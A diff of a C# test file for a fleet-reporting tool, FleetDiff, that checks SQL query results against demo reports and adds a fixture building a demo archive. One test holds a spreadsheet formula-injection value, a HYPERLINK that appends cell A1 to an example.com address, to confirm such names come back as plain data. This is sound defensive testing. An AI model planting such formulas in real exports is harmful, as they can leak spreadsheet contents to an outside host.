@@ -1,5 +1,6 @@
 using System.Globalization;
 using System.Text.Json;
+using FleetDiff.Cli;
 using FleetDiff.Core.Model.Reports;
 using FleetDiff.Core.Model.Text;
 using FleetDiff.Core.Pipeline.Archive;
@@ -27,7 +28,7 @@ public sealed class DemoQueryTests(DemoArchive demo) : IClassFixture<DemoArchive
             .Select(row => $"{row.Account.Account} {row.Date} {row.Account.Instances} {row.Account.Managed} "
                 + $"{row.Account.Dormant} {row.Account.Unmanaged} {row.Account.Disputed} {row.Account.Exempt}");
 
-        var counted = _engine.AskFile(QueryFiles.CoverageByAccount, "2026-11-01");
+        var counted = _engine.AskFile("coverage-by-account.sql", "2026-11-01");
 
         Assert.Equal(reported, counted.Select(row => string.Join(' ', row.SkipLast(1))));
     }
@@ -35,7 +36,7 @@ public sealed class DemoQueryTests(DemoArchive demo) : IClassFixture<DemoArchive
     [Fact]
     public void ListsInstancesThatWereUnmanagedOnTheRunBefore()
     {
-        var rows = _engine.AskFile(QueryFiles.UnmanagedOnARun, "2026-11-23");
+        var rows = _engine.AskFile("unmanaged-on-date.sql", "2026-11-23");
 
         Assert.Equal(Report("2026-11-23").Unmanaged.Select(row => row.Instance), rows.Select(row => row[2]));
         Assert.Equal(30, rows.Count);
@@ -49,7 +50,7 @@ public sealed class DemoQueryTests(DemoArchive demo) : IClassFixture<DemoArchive
             .Select(rows => $"{rows.Key.Code} {rows.Key.Resource} {rows.Count()} {rows.DistinctBy(row => row.Account).Count()}")
             .Order(StringComparer.Ordinal);
 
-        var counted = _engine.AskFile(QueryFiles.CausesOverTime, "2026-11-23");
+        var counted = _engine.AskFile("causes-over-time.sql", "2026-11-23");
 
         Assert.Equal(reported, counted.Select(row => string.Join(' ', row.Skip(1))).Order(StringComparer.Ordinal));
     }
@@ -57,17 +58,17 @@ public sealed class DemoQueryTests(DemoArchive demo) : IClassFixture<DemoArchive
     [Fact]
     public void ListsReopenedInstances() => Assert.Equal(
         [["666677778888", "eu-central-1", "i-0d15316c7ac7ed2c0", "build-agent-05", "2", "2026-11-23"]],
-        _engine.AskFile(QueryFiles.ReopenedMost, "2026-11-01"));
+        _engine.AskFile("reopened-most.sql", "2026-11-01"));
 
     [Fact]
     public void CountsTheDaysUntilResolution() => Assert.Equal(
         ["4", "1", "1"],
         _engine.Ask($"SELECT sum(resolved), round(sum(resolved * meanDays) / sum(resolved), 1), max(maxDays) "
-            + $"FROM ({QueryFiles.Text(QueryFiles.MeanRunsToResolve)})", "2026-11-01").Single());
+            + $"FROM ({Engine.ReadFile("mean-days-to-resolve.sql")})", "2026-11-01").Single());
 
     [Fact]
     public void ShowsHostileNamesAsData() => Assert.Contains(
-        _engine.AskFile(QueryFiles.UnmanagedOnARun, "2026-11-23"),
+        _engine.AskFile("unmanaged-on-date.sql", "2026-11-23"),
         row => row[3] == "=HYPERLINK(\"https://example.com/\"&A1)");
 
     [Fact]
@@ -79,4 +80,26 @@ public sealed class DemoQueryTests(DemoArchive demo) : IClassFixture<DemoArchive
     private Report Report(string run) => JsonSerializer.Deserialize(
         File.ReadAllText(Path.Combine(demo.Folder, $"reports/date={run}/report.json")), ArchiveJson.Instance.Report)
         ?? throw new InvalidDataException(run.ToString(CultureInfo.InvariantCulture));
+}
+
+/// <summary>The archive of <c>fleetdiff demo</c>: five reports of the sample organization.</summary>
+public sealed class DemoArchive : IAsyncLifetime
+{
+    public string Folder { get; } = Directory.CreateTempSubdirectory("fleetdiff-demo-").FullName;
+
+    private static readonly Dictionary<string, string?> NoVariables = [];
+
+    public async Task InitializeAsync()
+    {
+        using var output = new StringWriter();
+        var host = new Host { Out = new(output, null), Error = new(output, null), Environment = NoVariables };
+        var exitCode = await FleetDiffCli.RunAsync(["demo", "--archive", Folder], host, CancellationToken.None);
+        Assert.True(exitCode == 0, output.ToString());
+    }
+
+    public Task DisposeAsync()
+    {
+        Directory.Delete(Folder, recursive: true);
+        return Task.CompletedTask;
+    }
 }
